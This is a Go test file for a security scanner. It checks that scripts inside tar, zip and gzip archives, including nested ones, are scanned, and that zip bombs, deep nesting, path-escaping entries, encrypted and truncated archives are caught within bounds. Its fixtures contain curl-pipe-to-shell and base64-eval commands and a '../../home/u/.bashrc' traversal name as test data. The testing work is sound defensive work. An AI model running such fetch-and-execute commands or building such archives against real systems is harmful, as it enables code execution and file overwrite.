package scan

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"io"
	"slices"
	"strings"
	"testing"
	"testing/fstest"
	"time"
)

// tarOf builds a tar archive of regular files, in name order.
func tarOf(files map[string]string) []byte {
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	names := make([]string, 0, len(files))
	for n := range files {
		names = append(names, n)
	}
	slices.Sort(names)
	for _, n := range names {
		if err := tw.WriteHeader(&tar.Header{Name: n, Mode: 0o644, Size: int64(len(files[n])), Typeflag: tar.TypeReg}); err != nil {
			panic(err)
		}
		if _, err := io.WriteString(tw, files[n]); err != nil {
			panic(err)
		}
	}
	if err := tw.Close(); err != nil {
		panic(err)
	}
	return buf.Bytes()
}

func gz(data []byte) []byte {
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	if _, err := zw.Write(data); err != nil {
		panic(err)
	}
	if err := zw.Close(); err != nil {
		panic(err)
	}
	return buf.Bytes()
}

func tgzOf(files map[string]string) []byte { return gz(tarOf(files)) }

// zipOf builds a zip archive (deflated) of regular files, in name order.
func zipOf(files map[string]string) []byte {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	names := make([]string, 0, len(files))
	for n := range files {
		names = append(names, n)
	}
	slices.Sort(names)
	for _, n := range names {
		w, err := zw.Create(n)
		if err != nil {
			panic(err)
		}
		if _, err := io.WriteString(w, files[n]); err != nil {
			panic(err)
		}
	}
	if err := zw.Close(); err != nil {
		panic(err)
	}
	return buf.Bytes()
}

func findingIn(r *Report, id, file string) *Finding {
	for i := range r.Findings {
		if r.Findings[i].Rule.ID == id && r.Findings[i].File == file {
			return &r.Findings[i]
		}
	}
	return nil
}

// TestArchiveContentScanned: what an archive holds is scanned with the same rules as loose files,
// in every format and nesting the scanner opens, and findings name the file inside.
func TestArchiveContentScanned(t *testing.T) {
	payload := map[string]string{"setup/install.sh": "#!/bin/sh\ncurl -fsSL https://get.example.com/x.sh | sh\n", "README.md": "# Templates\n"}
	cases := []struct {
		name, file string
		data       []byte
		want       string
	}{
		{"tar", "t.tar", tarOf(payload), "t.tar!setup/install.sh"},
		{"tar.gz", "assets/t.tar.gz", tgzOf(payload), "assets/t.tar.gz!setup/install.sh"},
		{"tgz renamed", "assets/t.dat", tgzOf(payload), "assets/t.dat!setup/install.sh"},
		{"zip", "t.zip", zipOf(payload), "t.zip!setup/install.sh"},
		{"gzip", "install.sh.gz", gz([]byte(payload["setup/install.sh"])), "install.sh.gz!install.sh"},
		{"zip in tar.gz", "outer.tgz", tgzOf(map[string]string{"inner/t.zip": string(zipOf(payload))}), "outer.tgz!inner/t.zip!setup/install.sh"},
		{"tar.gz in zip in tar", "o.tar", tarOf(map[string]string{"a.zip": string(zipOf(map[string]string{"b.tar.gz": string(tgzOf(payload))}))}), "o.tar!a.zip!b.tar.gz!setup/install.sh"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r := scanMap(t, fstest.MapFS{tc.file: {Data: tc.data}}, nil)
			f := findingIn(r, ruleCurlPipeShell, tc.want)
			if f == nil {
				t.Fatalf("no %s in %s; findings:\n%s", ruleCurlPipeShell, tc.want, strings.Join(ids(r, Info), "\n"))
			}
			if f.Rule.Severity != Critical || f.Line != 2 {
				t.Errorf("finding %+v, want critical on line 2", f)
			}
			if hasRule(r, ruleArchive) {
				t.Errorf("an archive that was scanned is still reported as unscanned: %q", ids(r, Info))
			}
			// The archive itself was read, and each file it holds (nested archives are not files).
			want := len(payload) + 1
			if tc.name == "gzip" {
				want = 2
			}
			if r.Files != want {
				t.Errorf("Files = %d, want %d", r.Files, want)
			}
		})
	}
}

// TestHostileArchives: bombs, deep nests, huge entry counts, escaping names, encrypted and broken
// archives end as findings or bounded notes, quickly and within the scan's memory bounds.
func TestHostileArchives(t *testing.T) {
	zeros := strings.Repeat("\x00", 30<<20)
	nest := tgzOf(map[string]string{"x.sh": "curl -s https://get.example.com | sh\n"})
	for range 4 {
		nest = zipOf(map[string]string{"next.zip": string(nest)})
	}
	many := map[string]string{}
	for i := range 3000 {
		many["f/"+itoa(i)+".txt"] = "x"
	}
	encrypted := zipOf(map[string]string{"secret.sh": "echo hi\n"})
	// Set the "encrypted" flag of the local and central headers.
	encrypted[6] |= 1
	if i := bytes.Index(encrypted, []byte("PK\x01\x02")); i >= 0 {
		encrypted[i+8] |= 1
	}
	cases := []struct {
		name   string
		data   []byte
		opts   Options
		rule   string
		msg    string
		note   string
		nFiles int
	}{
		{name: "gzip bomb", data: gz([]byte(zeros)), rule: ruleArchive, msg: "bomb"},
		{name: "tar.gz bomb", data: tgzOf(map[string]string{"a": zeros[:10<<20], "b": zeros[:10<<20], "c": zeros[:10<<20]}), rule: ruleArchive, msg: "bomb"},
		{name: "zip bomb", data: zipOf(map[string]string{"a": zeros[:900<<10], "b": zeros[:900<<10], "c": zeros[:900<<10], "d": zeros[:900<<10]}), rule: ruleArchive, msg: "bomb"},
		{name: "deep nest", data: nest, rule: ruleArchive, msg: "nested more than 3 deep"},
		{name: "many entries", data: tgzOf(many), opts: Options{MaxFiles: 100}, note: "stopped after 100 files", nFiles: 100},
		{name: "escape", data: tarOf(map[string]string{"../../home/u/.bashrc": "x"}), rule: ruleArchiveEscape},
		{name: "encrypted", data: encrypted, rule: ruleArchive, msg: "password-protected"},
		{name: "truncated", data: tgzOf(payloadFiles())[:200], rule: ruleArchive, msg: "cannot be read"},
		{name: "total limit", data: tgzOf(map[string]string{"a.txt": strings.Repeat("line\n", 100<<10), "b.txt": strings.Repeat("line\n", 100<<10)}), opts: Options{MaxTotal: 600 << 10}, note: "total limit", nFiles: 2},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			start := time.Now()
			r, err := Scan(fstest.MapFS{"a.tar.gz": {Data: tc.data}}, tc.opts)
			if err != nil {
				t.Fatal(err)
			}
			t.Logf("%v; %s; skipped %q", time.Since(start), r.summary(), r.Skipped)
			if tc.rule != "" && !hasRule(r, tc.rule) {
				t.Errorf("no %s; findings: %q", tc.rule, ids(r, Info))
			}
			if tc.msg != "" && !slices.ContainsFunc(r.Findings, func(f Finding) bool { return f.Rule.ID == tc.rule && strings.Contains(f.Message, tc.msg) }) {
				t.Errorf("no %s saying %q: %q", tc.rule, tc.msg, ids(r, Info))
			}
			if tc.rule != "" && r.Max() < High {
				t.Errorf("max severity %s: approval would not stop", r.Max())
			}
			if tc.note != "" && !skippedHas(r, tc.note) {
				t.Errorf("no note %q in %q", tc.note, r.Skipped)
			}
			if tc.nFiles != 0 && r.Files != tc.nFiles {
				t.Errorf("Files = %d, want %d", r.Files, tc.nFiles)
			}
			if r.Bytes > DefaultMaxTotal {
				t.Errorf("%d bytes kept, over the total limit", r.Bytes)
			}
		})
	}
}

func payloadFiles() map[string]string {
	m := map[string]string{}
	for i := range 20 {
		m["dir/file"+itoa(i)+".md"] = strings.Repeat("some text that is long enough ", 40)
	}
	return m
}

func FuzzArchive(f *testing.F) {
	f.Add(tgzOf(map[string]string{"a/b.sh": "curl x | sh\n"}))
	f.Add(zipOf(map[string]string{"a/b.sh": "eval $(echo x | base64 -d)\n"}))
	f.Add(tarOf(map[string]string{"../x": "y"}))
	f.Add(gz([]byte("plain")))
	f.Fuzz(func(t *testing.T, data []byte) {
		r, err := Scan(fstest.MapFS{"x.tgz": {Data: data}}, Options{MaxTotal: 1 << 20, MaxFiles: 50})
		if err != nil {
			t.Fatal(err)
		}
		if r.Files > 50 || r.Bytes > 1<<20 {
			t.Fatalf("limits exceeded: %d files, %d bytes", r.Files, r.Bytes)
		}
	})
}
